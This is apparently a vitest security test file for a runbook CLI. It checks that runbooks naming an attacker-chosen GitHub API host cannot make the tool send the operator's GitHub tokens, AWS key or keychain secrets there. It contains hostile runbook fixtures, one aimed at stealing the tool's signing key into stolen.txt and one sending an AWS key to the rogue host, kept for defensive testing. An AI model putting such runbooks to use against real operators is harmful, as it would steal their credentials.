// SPEC §5.1, tried as an attacker would: a runbook names its own "GitHub" (a loopback server standing
// in for evil.example) while the operator's shell holds GH_TOKEN, GITHUB_TOKEN, an AWS key and a
// keychain `github` token (a private, real gnome-keyring). Whatever the mode, that host receives no
// token; with --github-api naming it, the operator's choice is honoured and the line saying which
// token goes where comes before the first request.
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { BIN, runCli, tempHome, type CliResult } from '../helpers/cli';
import { startGithubServer, type GithubServer } from '../helpers/github-server';
import { repoFiles } from '../helpers/github-team';
import { describeKeychain, startPrivateKeyring, type PrivateKeyring } from '../helpers/keyring';
import { makeKey } from '../helpers/ssh';
import { hasTmux, startTmux } from '../helpers/tmux';

const GH_TOKEN = `ghp_gh${randomBytes(12).toString('hex')}`;
const GITHUB_TOKEN = `ghp_gt${randomBytes(12).toString('hex')}`;
const KEYCHAIN_TOKEN = `ghp_kc${randomBytes(12).toString('hex')}`;
const AWS_KEY = `aws${randomBytes(16).toString('hex')}`;
const ALL = [GH_TOKEN, GITHUB_TOKEN, KEYCHAIN_TOKEN, AWS_KEY];

/** Declares no secret: only the API it "expects" and a records repository. */
const quiet = (api: string) => `---
id: quiet
title: Quiet
version: 1.0.0
github:
  api: ${api}
records:
  repo: x/y
---

# Quiet

\`\`\`sh run
echo hello
\`\`\`
`;

/** Any environment variable as the token: the AWS key for github steps and records. */
const upload = (api: string) => `---
id: upload
title: Upload
version: 1.0.0
secrets:
  UPLOAD:
    prompt: Upload key
    env: AWS_SECRET_ACCESS_KEY
github:
  api: ${api}
  token: UPLOAD
records:
  repo: x/y
  token: UPLOAD
---

# Upload

\`\`\`yaml github
request: GET /user
\`\`\`
`;

let evil: GithubServer;
let keyring: PrivateKeyring;
let home: ReturnType<typeof tempHome>;
let env: Record<string, string>;

beforeEach(async () => {
  evil = await startGithubServer({ state: { tokens: Object.fromEntries(ALL.map((t) => [t, { login: 'victim', scopes: ['repo'] }])) } });
  evil.state.team.files['x/y'] = repoFiles({ 'README.md': '# loot\n' });
  evil.state.team.issues['x/y#1'] = [];
  home = tempHome('handrail-evil-');
  keyring = await startPrivateKeyring(home.root);
  const key = makeKey(home.root, 'id_ed25519');
  env = {
    ...(home.env as Record<string, string>),
    ...keyring.env,
    GH_TOKEN,
    GITHUB_TOKEN,
    AWS_SECRET_ACCESS_KEY: AWS_KEY,
    HANDRAIL_GITHUB_API: '',
    HANDRAIL_RECORDS_REPO: '',
    HANDRAIL_REPORT_TO: '',
    HANDRAIL_NO_KEYCHAIN: '',
    // A signing identity makes the preflight ask GitHub who the keychain's `github` token belongs to.
    HANDRAIL_SSH_SIGNING_KEY: key.path,
    SSH_AUTH_SOCK: '',
  };
  const login = await runCli(['auth', 'login', '--with-token'], { env, input: `${KEYCHAIN_TOKEN}\n` });
  expect(login.code, login.stderr).toBe(0);
  writeFileSync(join(home.root, 'quiet.md'), quiet(evil.url));
  writeFileSync(join(home.root, 'upload.md'), upload(evil.url));
});
afterEach(async () => {
  keyring.stop();
  await evil.close();
});

const run = (args: string[], extra: Record<string, string> = {}): Promise<CliResult> =>
  runCli(args, { cwd: home.root, env: { ...env, ...extra } });
const tokensSeen = (method?: string) =>
  evil.requests
    .filter((r) => !method || r.method === method)
    .map((r) => r.headers.authorization)
    .filter((h): h is string => h !== undefined);

function expectRefused(result: CliResult) {
  expect(result.code, result.stdout + result.stderr).toBe(2);
  const origin = new URL(evil.url).origin;
  expect(result.stderr).toContain(`names the GitHub API ${origin}, a host you have not chosen`);
  expect(result.stderr).toContain(`--github-api ${evil.url}`);
  expect(result.stderr).toContain('github_hosts');
  expect(result.stdout + result.stderr).not.toMatch(/at .*\.(js|ts):\d+/);
}

describeKeychain("a runbook cannot send the operator's tokens to a host it names", () => {
  for (const [name, args] of [
    ['--dry-run --yes', ['--dry-run', '--yes']],
    ['--yes', ['--yes']],
    ['--yes --json', ['--yes', '--json']],
    ['--yes --plain --report-to', ['--yes', '--plain', '--report-to', 'x/y#1']],
  ] as const) {
    it(`${name}: stops before any request (exit 2), for a runbook with no secret and one with the AWS key as its token`, async () => {
      for (const file of ['quiet.md', 'upload.md']) {
        const result = await run(['run', file, ...args]);
        expectRefused(result);
      }
      expect(evil.requests).toEqual([]);
    });
  }

  it.skipIf(!hasTmux)('the TUI: refused before the first screen, and nothing reaches the host', async () => {
    const tmux = startTmux(`${process.execPath} ${BIN} run upload.md`, { cwd: home.root, env, columns: 80, rows: 24 });
    try {
      const screen = await tmux.waitFor('EXIT=');
      expect(screen).toContain('a host you have not chosen');
      expect(screen).toContain('EXIT=2');
    } finally {
      tmux.kill();
    }
    expect(evil.requests).toEqual([]);
  });

  it('records publish: a waiting record bound for a host not chosen now stays in the outbox, unsent', async () => {
    // Queued by a run that trusted the host with --github-api while it could not take the record.
    evil.route('PUT', '/repos/{owner}/{repo}/contents/{+path}', () => ({ status: 503, body: { message: 'Service Unavailable' } }));
    const queued = await run(['run', 'quiet.md', '--yes', '--dry-run', '--github-api', evil.url]);
    expect(queued.code, queued.stderr).toBe(0);
    const outbox = join(home.env.XDG_STATE_HOME!, 'handrail', 'outbox');
    expect(readdirSync(outbox)).toHaveLength(1);
    evil.requests.length = 0;

    const publish = await run(['records', 'publish']);
    expect(publish.code).toBe(1);
    expect(publish.stdout).toMatch(/not sent: .* is not a host you chose/);
    expect(evil.requests).toEqual([]);
    expect(readdirSync(outbox)).toHaveLength(1);
  });
});

describeKeychain("the operator's choice of host is honoured, and each token's source is shown first", () => {
  it('--github-api naming the host: the run works, and line mode names the AWS variable and the host before it is sent', async () => {
    const result = await run(['run', 'upload.md', '--yes', '--plain', '--dry-run', '--github-api', evil.url]);
    expect(result.code, result.stderr).toBe(0);
    const line = `GitHub token from UPLOAD from environment variable AWS_SECRET_ACCESS_KEY goes to ${new URL(evil.url).origin}`;
    expect(result.stdout).toContain(line);
    // Shown before the first step ran, and before the record was published.
    expect(result.stdout.indexOf(line)).toBeLessThan(result.stdout.indexOf('Published to x/y'));
    // Exactly one credential went there: the one the runbook named, never another of the operator's.
    expect(new Set(tokensSeen())).toEqual(new Set([`token ${AWS_KEY}`]));
    for (const token of ALL) expect(result.stdout + result.stderr).not.toContain(token);
  });

  it('--json: a credential event comes before any request is made', async () => {
    const result = await run(['run', 'upload.md', '--yes', '--json', '--dry-run', '--github-api', evil.url]);
    expect(result.code, result.stderr).toBe(0);
    const events = result.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { type: string; source?: string; host?: string });
    const credential = events.find((e) => e.type === 'credential');
    expect(credential).toMatchObject({ source: 'UPLOAD from environment variable AWS_SECRET_ACCESS_KEY', host: new URL(evil.url).origin });
    expect(events.findIndex((e) => e.type === 'credential')).toBeLessThan(events.findIndex((e) => e.type === 'run-started'));
  });

  it.skipIf(!hasTmux)('the TUI at 80x24: the preflight names the AWS variable and the host above "Start the run?"', async () => {
    const tmux = startTmux(`${process.execPath} ${BIN} run upload.md --github-api ${evil.url}`, {
      cwd: home.root,
      env,
      columns: 80,
      rows: 24,
    });
    try {
      const screen = await tmux.waitFor('Press Enter to start');
      const flat = screen.replace(/\s+/g, '');
      expect(flat).toContain(`GitHubtokenfromUPLOADfromenvironmentvariableAWS_SECRET_ACCESS_KEYgoesto${new URL(evil.url).origin}`);
      // Before the answer: only the token check went out, with the token the runbook named.
      expect(evil.requests.map((r) => `${r.method} ${r.path} ${r.headers.authorization}`)).toEqual([`GET /user token ${AWS_KEY}`]);
      tmux.send('q');
      await tmux.waitFor('Abort the run?');
      tmux.send('y');
      await tmux.waitFor('Run aborted');
      tmux.send('q');
      await tmux.waitFor('EXIT=');
    } finally {
      tmux.kill();
    }
    expect(new Set(tokensSeen())).toEqual(new Set([`token ${AWS_KEY}`]));
  });

  it('github_hosts in config.yaml trusts a host without the flag', async () => {
    mkdirSync(join(home.env.XDG_CONFIG_HOME!, 'handrail'), { recursive: true });
    writeFileSync(join(home.env.XDG_CONFIG_HOME!, 'handrail', 'config.yaml'), `github_hosts:\n  - ${evil.url}\n`);
    const result = await run(['run', 'quiet.md', '--yes', '--plain', '--dry-run']);
    expect(result.code, result.stderr).toBe(0);
    // The runbook names no secret: GH_TOKEN is first in the documented order, and it alone publishes.
    expect(result.stdout).toContain(`GitHub token from environment variable GH_TOKEN goes to ${new URL(evil.url).origin}`);
    expect(new Set(tokensSeen('PUT'))).toEqual(new Set([`token ${GH_TOKEN}`]));
    // The keychain's `github` token asks who the operator is, for the record: announced too.
    expect(result.stdout).toContain(`GitHub token from keychain account github goes to ${new URL(evil.url).origin}`);
  });

  it('a bad config.yaml is one sentence naming file:line:col', async () => {
    mkdirSync(join(home.env.XDG_CONFIG_HOME!, 'handrail'), { recursive: true });
    const file = join(home.env.XDG_CONFIG_HOME!, 'handrail', 'config.yaml');
    writeFileSync(file, `# trusted\ngithub_hosts:\n  - not a url\n`);
    const result = await run(['run', 'quiet.md', '--yes', '--dry-run']);
    expect(result.code).toBe(2);
    expect(result.stderr.trim()).toMatch(
      new RegExp(`^handrail: ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:3:5: github_hosts\\.0: .+$`),
    );
    expect(evil.requests).toEqual([]);
  });
});

describeKeychain('auth status asks GitHub only about GitHub tokens', () => {
  it("a runbook's non-GitHub secret stored in the keychain (an AWS key) is listed, never sent to GitHub as a token", async () => {
    // Stored as a run stores an asked secret: `keychain: aws-prod` in some runbook's secrets.
    const login = await runCli(['auth', 'login', '--name', 'aws-prod', '--with-token'], { env, input: `${AWS_KEY}\n` });
    expect(login.code, login.stderr).toBe(0);
    const status = await run(['auth', 'status', '--github-api', evil.url]);
    expect(status.stdout).toContain(
      'aws-prod: stored today; not shaped like a GitHub token (ghp_…, github_pat_…), so it was not sent to GitHub',
    );
    expect(status.stdout).toContain('github: stored today; GitHub user victim');
    expect(tokensSeen()).toEqual([`token ${KEYCHAIN_TOKEN}`]);
    expect(status.stderr).not.toContain('keychain account aws-prod');
  });
});

describeKeychain("handrail's own record-signing key is not a runbook's secret", () => {
  it('a runbook naming keychain: record-signing-key is refused at lint, exit 2, and no step sees the key', async () => {
    // The key that signs this machine's records (rehearsals count by it) lives in the same keychain service.
    const first = await run(['run', 'quiet.md', '--yes', '--dry-run', '--github-api', evil.url]);
    expect(first.code, first.stderr).toBe(0);
    writeFileSync(
      join(home.root, 'thief.md'),
      `---
id: thief
title: Thief
version: 1.0.0
secrets:
  KEY:
    prompt: Anything
    keychain: record-signing-key
---

# Thief

\`\`\`sh check secrets=KEY
printf %s "$KEY" > stolen.txt
\`\`\`
`,
    );
    for (const args of [
      ['lint', 'thief.md'],
      ['run', 'thief.md', '--yes', '--dry-run'],
    ]) {
      const result = await run(args);
      expect(result.code, result.stdout + result.stderr).toBe(2);
      expect(result.stdout + result.stderr).toMatch(/thief\.md:8:5: .*record-signing-key is handrail's own record-signing key/);
    }
    expect(existsSync(join(home.root, 'stolen.txt'))).toBe(false);
    // Nor can a token be stored over it, or it be removed, by name.
    for (const args of [
      ['auth', 'login', '--name', 'record-signing-key', '--with-token'],
      ['auth', 'logout', '--name', 'record-signing-key'],
    ]) {
      const result = await runCli(args, { cwd: home.root, env, input: 'ghp_overwrite\n' });
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toContain("--name record-signing-key is handrail's own record-signing key");
    }
    const again = await run(['run', 'quiet.md', '--yes', '--dry-run', '--github-api', evil.url]);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr + again.stdout).not.toMatch(/new record-signing key|signing key .*(created|made)/i);
  });
});

describeKeychain('one credential per request', () => {
  it('a rejected GH_TOKEN is named, and GITHUB_TOKEN and the keychain token are never tried', async () => {
    delete evil.state.tokens[GH_TOKEN];
    const result = await run(['run', 'quiet.md', '--yes', '--plain', '--dry-run', '--github-api', evil.url]);
    expect(result.code, result.stderr).toBe(0);
    expect(tokensSeen('PUT')).toEqual([`token ${GH_TOKEN}`]);
    expect(result.stderr).toMatch(
      /Not published to x\/y \(GitHub rejected the token from environment variable GH_TOKEN \(401 Bad credentials\) .*set GH_TOKEN to a token that may do this, or unset it/,
    );

    evil.requests.length = 0;
    const publish = await run(['records', 'publish', '--github-api', evil.url]);
    expect(publish.code, publish.stdout + publish.stderr).toBe(1);
    expect(tokensSeen(), publish.stdout + publish.stderr).toEqual([`token ${GH_TOKEN}`]);
    expect(publish.stderr).toContain(`GitHub token from environment variable GH_TOKEN goes to ${new URL(evil.url).origin}`);
  });
});
